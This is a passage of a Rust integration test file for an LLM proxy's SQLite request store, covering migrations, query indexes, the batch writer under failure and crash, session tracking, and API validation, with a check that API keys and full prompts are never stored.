//! The embedded store: migrations, indexes, the writer under failure and crash, session identification, the API,
//! streamed exports and the command line. Library-level tests use the store API directly; the others run the real
//! binary in front of the mock upstream.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{
    MockUpstream, Proxy, client, get_json, get_with_status, mock_config, send, wait_written,
};
use futures_util::StreamExt;
use kimi_proxy::accounting::RequestRecord;
use kimi_proxy::config::{Config, SessionMode};
use kimi_proxy::store::export::{self, Format};
use kimi_proxy::store::query::{self, Order, RequestFilter, SessionSort};
use kimi_proxy::store::schema::{LATEST_VERSION, MIGRATIONS, REQUEST_COLUMNS};
use kimi_proxy::store::sessions::SessionResolver;
use kimi_proxy::store::{
    ContextListener, ContextUpdate, Readers, Store, StoreError, StoreSink, WriterOptions,
    open_read_only,
};
use rusqlite::Connection;
use serde_json::{Value, json};

// ---------------------------------------------------------------------------------------------------------------
// helpers

fn record(id: u64, started: i64, hashes: Vec<u64>, client: Option<&str>) -> Arc<RequestRecord> {
    Arc::new(RequestRecord {
        id,
        instance: None,
        started_at_ms: started,
        model: "mock/model".into(),
        provider: "mock".into(),
        upstream_model: "mock-model".into(),
        streaming: false,
        status: 200,
        error_kind: None,
        prompt_estimated: 100,
        prompt_calibrated: 100,
        calibration_ratio: None,
        prompt_reported: Some(100),
        completion_estimated: 20,
        completion_reported: Some(20),
        cached_reported: Some(10),
        cache_write_reported: None,
        reasoning_estimated: 0,
        reasoning_reported: None,
        prompt_tokens: 100,
        completion_tokens: 20,
        tokens_estimated: false,
        prompt_accuracy: Some(1.0),
        completion_accuracy: Some(1.0),
        tokenizer: "cl100k_base".into(),
        tokenizer_exact: false,
        prompt_breakdown: Default::default(),
        cost_usd: 0.001,
        cost_estimated: false,
        counting_us: 10,
        latency_us: 1000,
        ttft_us: None,
        upstream_headers_us: Some(500),
        upstream_us: Some(450),
        overhead_us: Some(50),
        attempts: 1,
        upstream_attempts: Vec::new(),
        tool_call_fixes: 0,
        usage_injected: false,
        cache_hit: false,
        virtual_key: None,
        client_app: None,
        client_api: "chat",
        dropped_tools: 0,
        dropped_fields: 0,
        context: None,
        tokens_saved: 0,
        cost_saved_usd: 0.0,
        finish_reason: Some("stop".into()),
        response_bytes: 300,
        preview: Some("A preview of the last user message, with \"quotes\", commas".into()),
        client_session: client.map(String::from),
        message_hashes: hashes,
    })
}

fn resolver() -> SessionResolver {
    SessionResolver::new(
        SessionMode::Conversation,
        60,
        [("mock/model".to_string(), 100_000)].into_iter().collect(),
    )
}

fn count(conn: &Connection, sql: &str) -> i64 {
    conn.query_row(sql, [], |r| r.get(0)).unwrap()
}

/// Fills a database with `n` requests in `sessions` client sessions, directly through the store API.
fn fill(path: &Path, n: u64, sessions: u64) {
    let mut store = Store::open(path).unwrap();
    let mut resolver = resolver();
    let keys: Vec<String> = (0..sessions).map(|s| format!("client-{s}")).collect();
    let mut batch = Vec::with_capacity(10_000);
    for i in 0..n {
        let key = &keys[(i % sessions) as usize];
        batch.push(record(i, 1_700_000_000_000 + i as i64, vec![i], Some(key)));
        if batch.len() == 10_000 {
            store.write_batch(&batch, &mut resolver).unwrap();
            batch.clear();
        }
    }
    store.write_batch(&batch, &mut resolver).unwrap();
}

async fn setup(store: &str) -> (MockUpstream, Proxy) {
    let mock = MockUpstream::start().await.unwrap();
    let config = mock_config(&mock, &format!("[store]\nflush_interval_ms = 20\n{store}"));
    let proxy = Proxy::start(&config, &[("MOCK_KEY", "sk-mock-provider-key")]).await;
    (mock, proxy)
}

async fn chat(proxy: &Proxy, messages: Value, headers: &[(&str, &str)]) -> u16 {
    let mut request = client()
        .post(proxy.url("/v1/chat/completions"))
        .json(&json!({"model": "mock/model", "messages": messages}));
    for (k, v) in headers {
        request = request.header(*k, *v);
    }
    let response = request.send().await.unwrap();
    let status = response.status().as_u16();
    response.bytes().await.unwrap();
    status
}

async fn writer_stats(proxy: &Proxy) -> Value {
    get_with_status(proxy, "/api/stats/store").await.1["writer"].clone()
}

fn user(text: &str) -> Value {
    json!({"role": "user", "content": text})
}

fn assistant(text: &str) -> Value {
    json!({"role": "assistant", "content": text})
}

fn system() -> Value {
    json!({"role": "system", "content": "You are a careful coding agent."})
}

// ---------------------------------------------------------------------------------------------------------------
// schema

#[test]
fn migrations_upgrade_empty_and_v1_databases_and_refuse_newer_ones() {
    let dir = tempfile::tempdir().unwrap();

    // Empty file → latest.
    let fresh = dir.path().join("fresh.db");
    let store = Store::open(&fresh).unwrap();
    assert_eq!(
        kimi_proxy::store::schema_version(store.connection()).unwrap(),
        LATEST_VERSION
    );
    let mode: String = store
        .connection()
        .query_row("PRAGMA journal_mode", [], |r| r.get(0))
        .unwrap();
    assert_eq!(mode, "wal");
    drop(store);
    // Reopening is a no-op.
    Store::open(&fresh).unwrap();

    // A version-1 database with data, as the first release wrote it.
    let old = dir.path().join("v1.db");
    {
        let conn = Connection::open(&old).unwrap();
        conn.execute_batch(MIGRATIONS[0]).unwrap();
        conn.execute_batch(
            "CREATE TABLE schema_version (version INTEGER NOT NULL); INSERT INTO schema_version VALUES (1);
             INSERT INTO sessions (name, created_at, last_activity, source, request_count, active)
             VALUES ('old', 1, 2, 'manual', 1, 1);",
        )
        .unwrap();
        let text = ["model", "provider", "upstream_model", "tokenizer"];
        // The columns version 1 had.
        let v1_columns: Vec<&str> = REQUEST_COLUMNS
            .iter()
            .copied()
            .filter(|c| {
                !c.starts_with("ctx_")
                    && ![
                        "upstream_us",
                        "overhead_us",
                        "cache_hit",
                        "virtual_key",
                        "tokens_saved",
                        "cost_saved_usd",
                        "client_app",
                        "client_api",
                        "dropped_tools",
                        "dropped_fields",
                        "cache_write_reported",
                        "instance",
                    ]
                    .contains(c)
            })
            .collect();
        let values: Vec<String> = v1_columns
            .iter()
            .map(|c| match *c {
                "session_id" => "1".to_string(),
                c if text.contains(&c) => "'v1'".to_string(),
                _ => "0".to_string(),
            })
            .collect();
        conn.execute_batch(&format!(
            "INSERT INTO requests ({}) VALUES ({})",
            v1_columns.join(", "),
            values.join(", ")
        ))
        .unwrap();
    }
    assert!(matches!(
        open_read_only(&old),
        Err(StoreError::Outdated { found: 1, .. })
    ));
    let mut store = Store::open(&old).unwrap();
    let conn = store.connection();
    assert_eq!(
        kimi_proxy::store::schema_version(conn).unwrap(),
        LATEST_VERSION
    );
    assert_eq!(count(conn, "SELECT count(*) FROM requests"), 1);
    assert_eq!(
        count(
            conn,
            "SELECT count(*) FROM sessions WHERE name = 'old' AND context_window IS NULL AND active = 1"
        ),
        1
    );
    assert_eq!(count(conn, "SELECT count(*) FROM alerts"), 0);
    // The upgraded database takes new records.
    let mut resolver = resolver();
    store
        .write_batch(&[record(1, 10, vec![1, 2], None)], &mut resolver)
        .unwrap();
    // The active session from v1 captures a request without a client id.
    assert_eq!(
        count(
            store.connection(),
            "SELECT request_count FROM sessions WHERE name = 'old'"
        ),
        2
    );
    drop(store);
    open_read_only(&old).unwrap();

    // A newer database is refused, naming both versions.
    {
        let conn = Connection::open(&old).unwrap();
        conn.execute(
            "UPDATE schema_version SET version = ?1",
            [LATEST_VERSION + 1],
        )
        .unwrap();
    }
    let error = Store::open(&old).err().expect("newer schema refused");
    let message = error.to_string();
    assert!(
        message.contains(&format!("schema version {}", LATEST_VERSION + 1))
            && message.contains(&format!("version {LATEST_VERSION}")),
        "{message}"
    );
    assert!(matches!(
        open_read_only(&old),
        Err(StoreError::TooNew { .. })
    ));
}

#[test]
fn the_hot_queries_use_their_indexes() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("plan.db");
    fill(&path, 2000, 20);
    let store = Store::open(&path).unwrap();
    let conn = store.connection();
    conn.execute_batch("ANALYZE").unwrap();
    let plan = |sql: &str| query::explain(conn, sql).unwrap().join(" | ");

    let sessions = plan(&query::list_sessions_sql(
        SessionSort::LastActivity,
        Order::Desc,
    ));
    assert!(sessions.contains("sessions_by_last_activity"), "{sessions}");
    assert!(!sessions.contains("TEMP B-TREE"), "{sessions}");
    for (sort, index) in [
        (SessionSort::CreatedAt, "sessions_by_created_at"),
        (SessionSort::Cost, "sessions_by_cost"),
        (SessionSort::Requests, "sessions_by_requests"),
    ] {
        let p = plan(&query::list_sessions_sql(sort, Order::Asc));
        assert!(p.contains(index), "{p}");
    }

    let of_session = RequestFilter {
        session: Some(3),
        ..RequestFilter::default()
    };
    let p = plan(&of_session.list_sql().0);
    assert!(p.contains("requests_by_session_time"), "{p}");
    assert!(!p.contains("TEMP B-TREE"), "{p}");

    let p = plan(&RequestFilter::default().list_sql().0);
    assert!(p.contains("requests_by_time"), "{p}");
    assert!(!p.contains("TEMP B-TREE"), "{p}");

    // Export pages: keyset on (started_at, id) through the same indexes.
    let p = plan(&export::page_sql(&RequestFilter::default()).0);
    assert!(p.contains("requests_by_time"), "{p}");
    let p = plan(&export::page_sql(&of_session).0);
    assert!(p.contains("requests_by_session_time"), "{p}");
}

// ---------------------------------------------------------------------------------------------------------------
// the writer

#[test]
fn readers_see_consistent_aggregates_while_the_writer_writes() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("concurrent.db");
    let options = WriterOptions {
        queue_capacity: 50_000,
        flush_interval: Duration::from_millis(5),
        batch_rows: 256,
        ..WriterOptions::default()
    };
    let sink = StoreSink::start(&path, options).unwrap();
    let total = 20_000u64;
    let done = Arc::new(AtomicBool::new(false));
    let producer = {
        let sink = Arc::clone(&sink);
        let done = Arc::clone(&done);
        std::thread::spawn(move || {
            use kimi_proxy::accounting::RecordSink;
            for i in 0..total {
                let key = format!("agent-{}", i % 7);
                sink.offer(&record(i, i as i64, vec![i], Some(&key)));
                if i % 2000 == 0 {
                    std::thread::sleep(Duration::from_millis(5));
                }
            }
            sink.flush().unwrap();
            done.store(true, Ordering::SeqCst);
        })
    };
    let readers = Readers::new(&path);
    let mut reads = 0;
    let mut last_seen = 0;
    while !done.load(Ordering::SeqCst) || reads < 5 {
        let (requests, aggregated, sessions) = readers
            .with(|conn| {
                let sessions = query::list_sessions(
                    conn,
                    SessionSort::LastActivity,
                    Order::Desc,
                    100,
                    0,
                )?;
                // One read transaction for both figures.
                let both: (i64, i64) = conn.query_row(
                    "SELECT (SELECT count(*) FROM requests), (SELECT coalesce(sum(request_count), 0) FROM sessions)",
                    [],
                    |r| Ok((r.get(0)?, r.get(1)?)),
                )?;
                Ok((both.0, both.1, sessions))
            })
            .unwrap();
        // Aggregates are maintained in the same transaction as the rows.
        assert_eq!(requests, aggregated);
        assert!(requests >= last_seen);
        assert!(sessions.len() <= 7);
        last_seen = requests;
        reads += 1;
    }
    producer.join().unwrap();
    let stats = sink.stats();
    assert_eq!(stats.written, total, "{stats:?}");
    assert_eq!(stats.dropped, 0);
    assert!(stats.batches > 1 && stats.batches < total);
    sink.shutdown();
    let conn = open_read_only(&path).unwrap();
    assert_eq!(count(&conn, "SELECT count(*) FROM requests"), total as i64);
    assert_eq!(
        count(&conn, "SELECT sum(prompt_tokens) FROM sessions"),
        100 * total as i64
    );
    assert!(reads > 5);
}

#[test]
fn a_full_queue_drops_and_counts_and_shutdown_flushes() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("full.db");
    let options = WriterOptions {
        queue_capacity: 10,
        flush_interval: Duration::from_millis(50),
        ..WriterOptions::default()
    };
    let sink = StoreSink::start(&path, options).unwrap();
    use kimi_proxy::accounting::RecordSink;
    for i in 0..5_000u64 {
        sink.offer(&record(i, i as i64, vec![i], None));
    }
    sink.shutdown();
    let stats = sink.stats();
    assert!(stats.dropped > 0, "{stats:?}");
    assert_eq!(stats.written + stats.dropped, 5_000);
    assert_eq!(stats.queued, 0);
    // After the shutdown, offers are dropped at once.
    sink.offer(&record(9, 9, vec![9], None));
    assert_eq!(sink.stats().dropped, stats.dropped + 1);
    let conn = open_read_only(&path).unwrap();
    assert_eq!(
        count(&conn, "SELECT count(*) FROM requests") as u64,
        stats.written
    );
}

#[test]
fn a_writer_behind_catches_up_in_larger_batches() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("backlog.db");
    let options = WriterOptions {
        batch_rows: 100,
        queue_capacity: 20_000,
        ..WriterOptions::default()
    };
    let sink = StoreSink::start(&path, options).unwrap();
    use kimi_proxy::accounting::RecordSink;
    // Offered far faster than rows are written: the queue holds many batches' worth.
    for i in 0..10_000u64 {
        sink.offer(&record(i, i as i64, vec![i], None));
    }
    sink.shutdown();
    let stats = sink.stats();
    assert_eq!(stats.written, 10_000, "{stats:?}");
    assert!(
        stats.batches <= 40,
        "10,000 records in batches of 100 would take 100 commits; behind, fewer and larger: {stats:?}"
    );
}

#[test]
fn session_mode_active_puts_everything_in_one_session() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("active.db");
    let options = WriterOptions {
        session_mode: SessionMode::Active,
        ..WriterOptions::default()
    };
    let sink = StoreSink::start(&path, options).unwrap();
    use kimi_proxy::accounting::RecordSink;
    sink.offer(&record(1, 1, vec![1, 2], None));
    sink.offer(&record(2, 2, vec![7, 8], None));
    sink.offer(&record(3, 3, vec![9], Some("explicit")));
    sink.shutdown();
    let conn = open_read_only(&path).unwrap();
    assert_eq!(
        count(
            &conn,
            "SELECT request_count FROM sessions WHERE source = 'active' AND active = 1"
        ),
        2
    );
    assert_eq!(
        count(
            &conn,
            "SELECT request_count FROM sessions WHERE client_key = 'explicit'"
        ),
        1
    );
}

#[test]
fn a_conversation_continued_after_a_restart_joins_its_session() {
    use kimi_proxy::accounting::RecordSink;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("restart.db");
    let sink = StoreSink::start(&path, WriterOptions::default()).unwrap();
    sink.offer(&record(1, 1, vec![1, 2], None));
    sink.shutdown();

    // A new writer (a restarted or another instance) knows no conversation in memory: the database does.
    let sink = StoreSink::start(&path, WriterOptions::default()).unwrap();
    sink.offer(&record(2, 2, vec![1, 2, 3, 4], None));
    // The same opening sent again is a new conversation, not a continuation.
    sink.offer(&record(3, 3, vec![1, 2], None));
    sink.shutdown();

    let conn = open_read_only(&path).unwrap();
    assert_eq!(count(&conn, "SELECT count(*) FROM sessions"), 2);
    assert_eq!(
        count(
            &conn,
            "SELECT count(DISTINCT session_id) FROM requests WHERE record_id IN (1, 2)"
        ),
        1,
        "the continuation is in the first session"
    );
    assert_eq!(
        count(
            &conn,
            "SELECT request_count FROM sessions ORDER BY id LIMIT 1"
        ),
        2
    );
}

/// The store only reports each session's context after a commit; deciding on alerts is the alert engine's.
#[derive(Default)]
struct Heard {
    context: Mutex<Vec<ContextUpdate>>,
    deleted: Mutex<Vec<i64>>,
}

impl ContextListener for Heard {
    fn context(&self, updates: &[ContextUpdate]) {
        self.context.lock().unwrap().extend_from_slice(updates);
    }
    fn deleted(&self, ids: &[i64]) {
        self.deleted.lock().unwrap().extend_from_slice(ids);
    }
}

#[test]
fn committed_context_is_reported_to_the_listener() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("context.db");
    let mut store = Store::open(&path).unwrap();
    let mut resolver = SessionResolver::new(
        SessionMode::Conversation,
        60,
        [("mock/model".to_string(), 1000)].into_iter().collect(),
    );
    let heard = Arc::new(Heard::default());
    resolver.set_listener(heard.clone());
    let grow = |id: u64, prompt: u64, hashes: Vec<u64>| {
        let mut r = (*record(id, id as i64, hashes, None)).clone();
        r.prompt_tokens = prompt;
        r.completion_tokens = 50;
        Arc::new(r)
    };
    store
        .write_batch(&[grow(1, 500, vec![1])], &mut resolver)
        .unwrap();
    // Two turns in one batch: the latest request's size is the session's context.
    store
        .write_batch(
            &[
                grow(2, 880, vec![1, 2, 3]),
                grow(3, 950, vec![1, 2, 3, 4, 5]),
            ],
            &mut resolver,
        )
        .unwrap();
    let updates = heard.context.lock().unwrap().clone();
    assert_eq!(
        updates,
        vec![
            ContextUpdate {
                session_id: 1,
                tokens: 550,
                window: 1000
            },
            ContextUpdate {
                session_id: 1,
                tokens: 1000,
                window: 1000
            }
        ]
    );
    let conn = store.connection();
    assert_eq!(count(conn, "SELECT context_tokens FROM sessions"), 1000);
    assert_eq!(count(conn, "SELECT count(*) FROM alerts"), 0);
    store.delete_sessions(Some(&mut resolver), &[1]).unwrap();
    assert_eq!(*heard.deleted.lock().unwrap(), vec![1]);
}

// ---------------------------------------------------------------------------------------------------------------
// the binary

#[tokio::test]
async fn the_proxy_keeps_answering_when_the_disk_fails_and_writing_resumes() {
    let mock = MockUpstream::start().await.unwrap();
    let config = mock_config(&mock, "[store]\nflush_interval_ms = 20\n");
    let scratch = tempfile::tempdir().unwrap();
    let db_dir = scratch.path().join("disk");
    std::fs::create_dir_all(&db_dir).unwrap();
    let db = db_dir.join("kimi.db");
    let proxy = Proxy::start_with_args(
        &config,
        &[("MOCK_KEY", "sk-mock-provider-key")],
        &["--db", db.to_str().unwrap()],
    )
    .await;
    for i in 0..3 {
        let status = chat(&proxy, json!([user(&format!("before {i}"))]), &[]).await;
        assert_eq!(status, 200);
    }
    wait_written(&proxy, 3).await;

    // The disk goes away: the directory is moved and a file takes its place.
    std::fs::rename(&db_dir, scratch.path().join("disk.gone")).unwrap();
    std::fs::write(&db_dir, b"not a directory").unwrap();
    for i in 0..5 {
        let status = chat(&proxy, json!([user(&format!("during {i}"))]), &[]).await;
        assert_eq!(status, 200, "the proxy must keep proxying");
    }
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let stats = writer_stats(&proxy).await;
        // The records are held (not dropped) while the database cannot be opened.
        if stats["held"] == 5 && stats["write_errors"].as_u64().unwrap_or(0) >= 3 {
            assert_eq!(stats["healthy"], false, "{stats}");
            assert!(stats["last_error"].is_string(), "{stats}");
            assert_eq!(stats["dropped"], 0, "{stats}");
            break;
        }
        assert!(Instant::now() < deadline, "nothing held: {stats}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let written_before = writer_stats(&proxy).await["written"].as_u64().unwrap();

    // The disk comes back (empty): the writer reopens the path and resumes.
    std::fs::remove_file(&db_dir).unwrap();
    std::fs::create_dir_all(&db_dir).unwrap();
    let deadline = Instant::now() + Duration::from_secs(15);
    let mut sent = 0;
    loop {
        assert_eq!(
            chat(&proxy, json!([user(&format!("after {sent}"))]), &[]).await,
            200
        );
        sent += 1;
        let stats = writer_stats(&proxy).await;
        if stats["written"].as_u64().unwrap() > written_before && stats["healthy"] == true {
            break;
        }
        assert!(Instant::now() < deadline, "writing did not resume: {stats}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    // What was held during the outage reached the new file, and so did what came after (a batch or two later:
    // `written` moved as soon as the held records were written).
    let conn = open_read_only(&db).unwrap();
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let during = count(
            &conn,
            "SELECT count(*) FROM requests WHERE preview LIKE 'during%'",
        );
        let after = count(
            &conn,
            "SELECT count(*) FROM requests WHERE preview LIKE 'after%'",
        );
        if during == 5 && after == sent {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "not all written: {during} of 5 held, {after} of {sent} after"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn a_killed_proxy_leaves_a_database_with_every_committed_row() {
    let (_mock, mut proxy) = setup("").await;
    for i in 0..12 {
        assert_eq!(
            chat(&proxy, json!([user(&format!("crash {i}"))]), &[]).await,
            200
        );
    }
    // Well past the batch window (20 ms): every record is committed.
    wait_written(&proxy, 12).await;
    tokio::time::sleep(Duration::from_millis(100)).await;
    proxy.child.start_kill().unwrap();
    proxy.child.wait().await.unwrap();

    let db = proxy.db_path();
    let store = Store::open(&db).unwrap();
    let conn = store.connection();
    let integrity: String = conn
        .query_row("PRAGMA integrity_check", [], |r| r.get(0))
        .unwrap();
    assert_eq!(integrity, "ok");
    assert_eq!(count(conn, "SELECT count(*) FROM requests"), 12);
    assert_eq!(count(conn, "SELECT sum(request_count) FROM sessions"), 12);
}

#[cfg(unix)]
#[tokio::test]
async fn a_graceful_shutdown_commits_everything_queued() {
    // A batch window far longer than the test: only the shutdown can have committed these.
    let mock = MockUpstream::start().await.unwrap();
    let config = mock_config(
        &mock,
        "[store]\nflush_interval_ms = 60000\nbatch_rows = 100000\n",
    );
    let mut proxy = Proxy::start(&config, &[("MOCK_KEY", "sk-mock-provider-key")]).await;
    for i in 0..7 {
        assert_eq!(
            chat(&proxy, json!([user(&format!("bye {i}"))]), &[]).await,
            200
        );
    }
    proxy.terminate();
    let exit = tokio::time::timeout(Duration::from_secs(20), proxy.child.wait())
        .await
        .unwrap()
        .unwrap();
    assert!(exit.success(), "{exit:?}: {}", proxy.log());
    let conn = open_read_only(&proxy.db_path()).unwrap();
    assert_eq!(
        count(&conn, "SELECT count(*) FROM requests"),
        7,
        "{}",
        proxy.log()
    );
}

#[tokio::test]
async fn sessions_follow_client_ids_conversations_and_activation() {
    let (_mock, proxy) = setup("").await;
    let mut expected = 0;
    let mut go = async |messages: Value, headers: &[(&str, &str)]| {
        assert_eq!(chat(&proxy, messages, headers).await, 200);
        expected += 1;
        wait_written(&proxy, expected).await;
    };

    // Explicit ids: header and metadata.
    go(
        json!([user("explicit one")]),
        &[("x-session-id", "agent-42")],
    )
    .await;
    go(
        json!([user("explicit two")]),
        &[("x-session-id", "agent-42")],
    )
    .await;

    // Two agents in parallel, interleaved, one with tool results.
    let a1 = json!([system(), user("Fix the parser")]);
    let b1 = json!([system(), user("Write the docs")]);
    let a2 = json!([
        system(),
        user("Fix the parser"),
        assistant("Reading it"),
        user("go on")
    ]);
    let b2 = json!([
        system(),
        user("Write the docs"),
        assistant("Outline"),
        user("more")
    ]);
    let a3 = json!([
        system(), user("Fix the parser"), assistant("Reading it"), user("go on"),
        {"role": "assistant", "content": null, "tool_calls": [
            {"id": "c1", "type": "function", "function": {"name": "read", "arguments": "{\"p\":\"a\"}"}},
            {"id": "c2", "type": "function", "function": {"name": "read", "arguments": "{\"p\":\"b\"}"}}
        ]},
        {"role": "tool", "tool_call_id": "c1", "content": "file a"},
        {"role": "tool", "tool_call_id": "c2", "content": "file b"}
    ]);
    for messages in [&a1, &b1, &a2, &b2, &a3] {
        go(messages.clone(), &[]).await;
    }
    // An edited history (the last user message changed) starts a new session.
    let a2_edited = json!([
        system(),
        user("Fix the parser"),
        assistant("Reading it"),
        user("stop")
    ]);
    go(a2_edited, &[]).await;

    let (_, list) = get_with_status(&proxy, "/api/sessions?limit=100").await;
    let sessions = list["data"].as_array().unwrap().clone();
    let by_preview = |needle: &str| {
        sessions
            .iter()
            .find(|s| s["name"].as_str().is_some_and(|n| n.starts_with(needle)))
            .unwrap_or_else(|| panic!("no session named {needle}: {sessions:?}"))
            .clone()
    };
    let client = sessions
        .iter()
        .find(|s| s["client_key"] == "agent-42")
        .unwrap();
    assert_eq!(client["source"], "client");
    assert_eq!(client["request_count"], 2);
    let a = by_preview("Fix the parser");
    let b = by_preview("Write the docs");
    assert_eq!(a["source"], "conversation");
    assert_eq!(a["request_count"], 3, "{a}");
    assert_eq!(b["request_count"], 2, "{b}");
    let edited = by_preview("stop");
    assert_eq!(edited["request_count"], 1);
    assert_eq!(list["total"], 4);

    // Aggregates equal the sums of the session's requests; the gauge shows the latest request.
    let (_, requests) =
        get_with_status(&proxy, &format!("/api/sessions/{}/requests", a["id"])).await;
    let rows = requests["data"].as_array().unwrap();
    assert_eq!(rows.len(), 3);
    let sum = |key: &str| rows.iter().map(|r| r[key].as_i64().unwrap()).sum::<i64>();
    assert_eq!(a["prompt_tokens"].as_i64().unwrap(), sum("prompt_tokens"));
    assert_eq!(
        a["completion_tokens"].as_i64().unwrap(),
        sum("completion_tokens")
    );
    let latest = &rows[0];
    assert_eq!(
        a["context_tokens"].as_i64().unwrap(),
        latest["prompt_tokens"].as_i64().unwrap() + latest["completion_tokens"].as_i64().unwrap()
    );
    assert_eq!(a["context_window"], 100000);
    assert_eq!(latest["message_count"], 7);
    assert_eq!(latest["streaming"], false);

    // A manual session, active, captures requests without a client id; a client id still wins.
    let (status, manual) = send(
        &proxy,
        "POST",
        "/api/sessions",
        Some(json!({"name": "refactor", "model": "mock/model"})),
    )
    .await;
    assert_eq!(status, 201, "{manual}");
    assert_eq!(manual["active"], true);
    assert_eq!(manual["source"], "manual");
    assert_eq!(manual["context_window"], 100000);
    let id = manual["id"].as_i64().unwrap();
    go(json!([user("inside the manual session")]), &[]).await;
    go(
        json!([user("explicit three")]),
        &[("x-session-id", "agent-42")],
    )
    .await;
    let (_, manual) = get_with_status(&proxy, &format!("/api/sessions/{id}")).await;
    assert_eq!(manual["request_count"], 1, "{manual}");
    // Deactivated: new conversations get their own session again.
    let (status, _) = send(
        &proxy,
        "POST",
        &format!("/api/sessions/{id}/deactivate"),
        None,
    )
    .await;
    assert_eq!(status, 200);
    go(json!([user("a brand new task")]), &[]).await;
    let (_, list) = get_with_status(&proxy, "/api/sessions?limit=100").await;
    assert_eq!(list["total"], 6);
    let (_, manual) = get_with_status(&proxy, &format!("/api/sessions/{id}")).await;
    assert_eq!(manual["request_count"], 1);
    assert_eq!(manual["active"], false);
}

#[tokio::test]
async fn no_key_and_no_full_prompt_reach_the_database() {
    let (_mock, proxy) = setup("preview_chars = 12").await;
    let secret_tail = "UNIQUE-PROMPT-TAIL-7f3a";
    let long = format!("{} {secret_tail}", "word ".repeat(100));
    let status = chat(
        &proxy,
        json!([user(&long)]),
        &[("authorization", "Bearer sk-client-secret-123")],
    )
    .await;
    assert_eq!(status, 200);
    wait_written(&proxy, 1).await;
    let conn = open_read_only(&proxy.db_path()).unwrap();
    let preview: String = conn
        .query_row("SELECT preview FROM requests", [], |r| r.get(0))
        .unwrap();
    assert!(preview.chars().count() <= 12, "{preview}");
    drop(conn);
    let mut bytes = Vec::new();
    for suffix in ["", "-wal"] {
        let mut path = proxy.db_path().into_os_string();
        path.push(suffix);
        bytes.extend(std::fs::read(path).unwrap_or_default());
    }
    let text = String::from_utf8_lossy(&bytes);
    for needle in ["sk-client-secret-123", "sk-mock-provider-key", secret_tail] {
        assert!(!text.contains(needle), "{needle} stored");
    }
}

#[tokio::test]
async fn the_api_validates_and_manages_sessions() {
    let (_mock, proxy) = setup("").await;
    for i in 0..4 {
        chat(&proxy, json!([user(&format!("task {i}"))]), &[]).await;
    }
    wait_written(&proxy, 4).await;

    for bad in [
        "/api/sessions?sort=price",
        "/api/sessions?order=up",
        "/api/sessions?limit=0",
        "/api/sessions?limit=abc",
        "/api/sessions?bogus=1",
        "/api/sessions/abc",
        "/api/sessions/1/requests?status=weird",
        "/api/sessions/1/export?format=xml",
        "/api/export?format=xml",
    ] {
        let (status, body) = get_with_status(&proxy, bad).await;
        assert_eq!(status, 400, "{bad}: {body}");
        assert_eq!(body["error"]["type"], "invalid_request_error", "{bad}");
        assert!(body["error"]["message"].is_string());
    }
    for unknown in [
        "/api/sessions/999",
        "/api/sessions/999/requests",
        "/api/sessions/999/export",
    ] {
        let (status, body) = get_with_status(&proxy, unknown).await;
        assert_eq!(status, 404, "{unknown}");
        assert_eq!(body["error"]["code"], "unknown_session");
    }
    for (method, path, body) in [
        ("PATCH", "/api/sessions/999", Some(json!({"name": "x"}))),
        ("DELETE", "/api/sessions/999", None),
        ("POST", "/api/sessions/999/activate", None),
    ] {
        let (status, _) = send(&proxy, method, path, body).await;
        assert_eq!(status, 404, "{method} {path}");
    }
    let (status, _) = send(&proxy, "POST", "/api/sessions", Some(json!({"model": "m"}))).await;
    assert_eq!(status, 400);
    let (status, _) = send(&proxy, "POST", "/api/sessions", Some(json!({"name": "  "}))).await;
    assert_eq!(status, 400);

    // Sorted lists, paging.
    let (_, page) = get_with_status(
        &proxy,
        "/api/sessions?limit=2&offset=1&sort=created_at&order=asc",
    )
    .await;
    assert_eq!(page["data"].as_array().unwrap().len(), 2);
    assert_eq!(page["total"], 4);
    // Ascending creation time, ties broken by id.
    let key = |s: &Value| {
        (
            s["created_at_ms"].as_i64().unwrap(),
            s["id"].as_i64().unwrap(),
        )
    };
    assert!(key(&page["data"][0]) < key(&page["data"][1]), "{page}");
    let first = page["data"][0]["id"].as_i64().unwrap();
    let second = page["data"][1]["id"].as_i64().unwrap();

    // Rename, filter requests, delete one, delete several (cascade).
    let (status, renamed) = send(
        &proxy,
        "PATCH",
        &format!("/api/sessions/{first}"),
        Some(json!({"name": "renamed"})),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(renamed["name"], "renamed");
    let (_, rows) = get_with_status(
        &proxy,
        &format!("/api/sessions/{first}/requests?status=200&model=mock/model"),
    )
    .await;
    assert_eq!(rows["data"].as_array().unwrap().len(), 1);
    let (_, rows) = get_with_status(
        &proxy,
        &format!("/api/sessions/{first}/requests?status=500"),
    )
    .await;
    assert_eq!(rows["data"].as_array().unwrap().len(), 0, "{rows}");
    let (status, _) = send(&proxy, "DELETE", &format!("/api/sessions/{first}"), None).await;
    assert_eq!(status, 200);
    let (status, deleted) = send(
        &proxy,
        "DELETE",
        "/api/sessions",
        Some(json!({"ids": [second, 12345]})),
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(deleted["deleted"], 1);
    let (_, stats) = get_with_status(&proxy, "/api/stats/store").await;
    assert_eq!(stats["database"]["sessions"], 2, "{stats}");
    assert_eq!(stats["database"]["requests"], 2, "{stats}");
    assert_eq!(stats["database"]["schema_version"], LATEST_VERSION);
    assert!(stats["database"]["db_bytes"].as_u64().unwrap() > 0);
    assert_eq!(stats["writer"]["written"], 4);

    // Retention: nothing is that old; the database is vacuumed.
    let (status, outcome) = send(
        &proxy,
        "POST",
        "/api/maintenance/retention",
        Some(json!({"days": 30})),
    )
    .await;
    assert_eq!(status, 200, "{outcome}");
